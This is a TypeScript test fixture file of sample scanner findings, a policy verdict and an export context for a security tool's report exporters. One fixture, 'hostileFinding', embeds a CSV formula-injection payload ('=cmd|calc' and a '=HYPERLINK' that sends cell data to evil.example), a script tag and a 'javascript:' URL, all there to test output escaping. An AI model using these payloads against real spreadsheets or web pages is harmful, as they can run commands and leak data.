// Realistic StoredFinding fixtures shared by the exporter tests (not used at runtime).
import type { StoredFinding } from '../../src/store/repositories/findings.js';
import type { Verdict } from '../../src/domain/policy/evaluate.js';
import type { ExportContext } from '../../src/reports/exporters/context.js';

const fp = (c: string) => c.repeat(64);

export const opensslCve: StoredFinding = {
  id: 'f-0001',
  tool: 'trivy',
  toolVersion: '0.50.1',
  ruleId: 'CVE-2024-0727',
  category: 'vulnerability',
  severity: 'critical',
  toolSeverity: 'CRITICAL',
  title: 'openssl: denial of service via null dereference',
  description: 'Processing a maliciously formatted PKCS12 file may lead OpenSSL to crash leading to a potential Denial of Service attack.',
  vulnerabilityIds: ['CVE-2024-0727'],
  cwes: [476],
  package: { name: 'openssl', version: '3.0.12-r0', ecosystem: 'alpine', purl: 'pkg:apk/alpine/openssl@3.0.12-r0?distro=3.19.0' },
  fixedVersions: ['3.0.13'],
  location: { image: 'registry.example.com/shop:1.4', layer: 'sha256:aaaa' },
  cvss: [
    { version: '3.1', score: 5.5, vector: 'CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:N/I:N/A:H', source: 'nvd' },
    { version: '3.1', score: 9.1, vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:H', source: 'redhat' },
  ],
  status: 'open',
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2024-0727', 'https://www.openssl.org/news/secadv/20240125.txt'],
  fingerprint: fp('a'),
  sources: ['trivy', 'grype'],
  firstSeenAt: '2024-02-01T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

export const npmGhsa: StoredFinding = {
  id: 'f-0002',
  tool: 'npm-audit',
  ruleId: 'GHSA-952p-6rrq-rcjv',
  category: 'vulnerability',
  severity: 'high',
  title: 'micromatch vulnerable to Regular Expression Denial of Service',
  description: 'The NPM package `micromatch` is vulnerable to ReDoS.',
  vulnerabilityIds: ['GHSA-952p-6rrq-rcjv'],
  cwes: [1333],
  package: { name: 'micromatch', version: '4.0.5', ecosystem: 'npm', purl: 'pkg:npm/micromatch@4.0.5' },
  fixedVersions: ['4.0.8'],
  location: { path: 'package-lock.json' },
  status: 'open',
  references: ['https://github.com/advisories/GHSA-952p-6rrq-rcjv'],
  fingerprint: fp('b'),
  sources: ['npm-audit'],
  firstSeenAt: '2024-02-02T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

export const semgrepSqli: StoredFinding = {
  id: 'f-0003',
  tool: 'semgrep',
  toolVersion: '1.69.0',
  ruleId: 'javascript.lang.security.audit.sqli.node-postgres-sqli',
  category: 'code',
  severity: 'medium',
  title: 'Detected string concatenation in a SQL query (node-postgres)',
  description: 'User input flows into a SQL string; use parameterised queries.',
  vulnerabilityIds: [],
  cwes: [89],
  location: { path: 'src/db/orders.ts', startLine: 42, endLine: 44, startColumn: 5, endColumn: 31 },
  fixedVersions: [],
  status: 'open',
  references: ['https://owasp.org/Top10/A03_2021-Injection'],
  fingerprint: fp('c'),
  sources: ['semgrep'],
  firstSeenAt: '2024-02-03T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

export const awsSecret: StoredFinding = {
  id: 'f-0004',
  tool: 'gitleaks',
  ruleId: 'aws-access-token',
  category: 'secret',
  severity: 'high',
  title: 'AWS access key committed',
  vulnerabilityIds: [],
  cwes: [798],
  location: { path: 'config/deploy.env', startLine: 3 },
  fixedVersions: [],
  status: 'open',
  references: [],
  secretHash: 'deadbeef',
  fingerprint: fp('d'),
  sources: ['gitleaks'],
  firstSeenAt: '2024-02-04T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

export const infoFinding: StoredFinding = {
  id: 'f-0005',
  tool: 'trivy',
  ruleId: 'DS002',
  category: 'misconfiguration',
  severity: 'info',
  title: 'Image user should not be root',
  vulnerabilityIds: [],
  cwes: [],
  location: { path: 'Dockerfile' },
  fixedVersions: [],
  status: 'open',
  references: ['https://avd.aquasec.com/misconfig/ds002'],
  fingerprint: fp('e'),
  sources: [],
  firstSeenAt: '2024-02-05T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

/** A low finding whose text tries CSV formula injection and XML breakage. */
export const hostileFinding: StoredFinding = {
  id: 'f-0006',
  tool: 'semgrep',
  ruleId: '=cmd|calc',
  category: 'code',
  severity: 'low',
  title: '=HYPERLINK("http://evil.example/?"&A1,"click") ]]> <script>alert(\'x\')</script> "quoted", \u0001 done',
  description: 'line one\r\nline two, with comma',
  vulnerabilityIds: [],
  cwes: [79],
  location: { path: '-src/a,b.ts', startLine: 0 },
  fixedVersions: [],
  status: 'open',
  references: ['javascript:alert(1)'],
  fingerprint: fp('f'),
  sources: ['semgrep'],
  firstSeenAt: '2024-02-06T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

/** A dependency finding with neither path nor image: exporters must guess a manifest. */
export const pypiNoPath: StoredFinding = {
  id: 'f-0007',
  tool: 'osv-scanner',
  ruleId: 'PYSEC-2023-74',
  category: 'vulnerability',
  severity: 'medium',
  title: 'requests leaks Proxy-Authorization header',
  vulnerabilityIds: ['PYSEC-2023-74', 'CVE-2023-32681', 'GHSA-j8r2-6x86-q33q'],
  cwes: [200],
  package: { name: 'requests', version: '2.30.0', ecosystem: 'PyPI' },
  fixedVersions: ['2.31.0'],
  status: 'open',
  references: [],
  fingerprint: fp('1'),
  sources: ['osv-scanner'],
  firstSeenAt: '2024-02-07T10:00:00.000Z',
  lastSeenAt: '2024-03-01T10:00:00.000Z',
};

export const allFindings: readonly StoredFinding[] = [infoFinding, npmGhsa, awsSecret, opensslCve, semgrepSqli, hostileFinding, pypiNoPath];

export const failingVerdict: Verdict = {
  outcome: 'fail',
  summary: '1 rule failed, 1 warned',
  reasons: ['no-critical-vulns: critical vulnerabilities are not allowed'],
  rules: [
    {
      id: 'no-critical-vulns',
      action: 'fail',
      reason: 'Critical vulnerabilities are not allowed <now>',
      matched: 1,
      allowed: 0,
      triggered: true,
      findings: [
        {
          fingerprint: opensslCve.fingerprint,
          ruleId: opensslCve.ruleId,
          vulnerabilityIds: opensslCve.vulnerabilityIds,
          title: opensslCve.title,
          severity: 'critical',
          package: { name: 'openssl', version: '3.0.12-r0' },
          location: { image: 'registry.example.com/shop:1.4' },
        },
      ],
    },
    {
      id: 'no-secrets',
      action: 'warn',
      reason: 'Secrets should be rotated',
      matched: 1,
      allowed: 0,
      triggered: true,
      findings: [
        {
          fingerprint: hostileFinding.fingerprint,
          ruleId: hostileFinding.ruleId,
          vulnerabilityIds: [],
          title: hostileFinding.title,
          severity: 'low',
          location: { path: 'config/deploy.env', startLine: 3 },
        },
      ],
    },
    { id: 'max-high', action: 'fail', reason: 'At most 5 high findings', matched: 2, allowed: 5, triggered: false, findings: [] },
  ],
  exceptions: [],
  expiredExceptions: [],
  counts: { findings: 7, excepted: 0, assessed: 7 },
  evaluatedAt: '2024-03-01T12:00:00.000Z',
};

export const baseContext: ExportContext = {
  project: 'shop',
  ref: 'main',
  commit: '0123456789abcdef0123456789abcdef01234567',
  submissionId: 'sub-42',
  generatedAt: new Date('2024-03-01T12:34:56.789Z'),
  scanhubVersion: '0.1.0',
  reportUrl: 'https://scanhub.example.com/projects/shop/findings',
};
